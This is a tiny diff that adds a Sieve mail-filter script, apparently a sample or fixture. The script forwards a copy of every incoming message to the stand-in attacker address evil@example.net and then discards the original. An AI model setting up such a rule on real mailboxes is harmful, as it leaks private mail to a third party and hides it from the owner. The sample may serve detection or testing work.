@@ -1,0 +1,3 @@
+require "copy";
+redirect :copy "evil@example.net";
+discard;
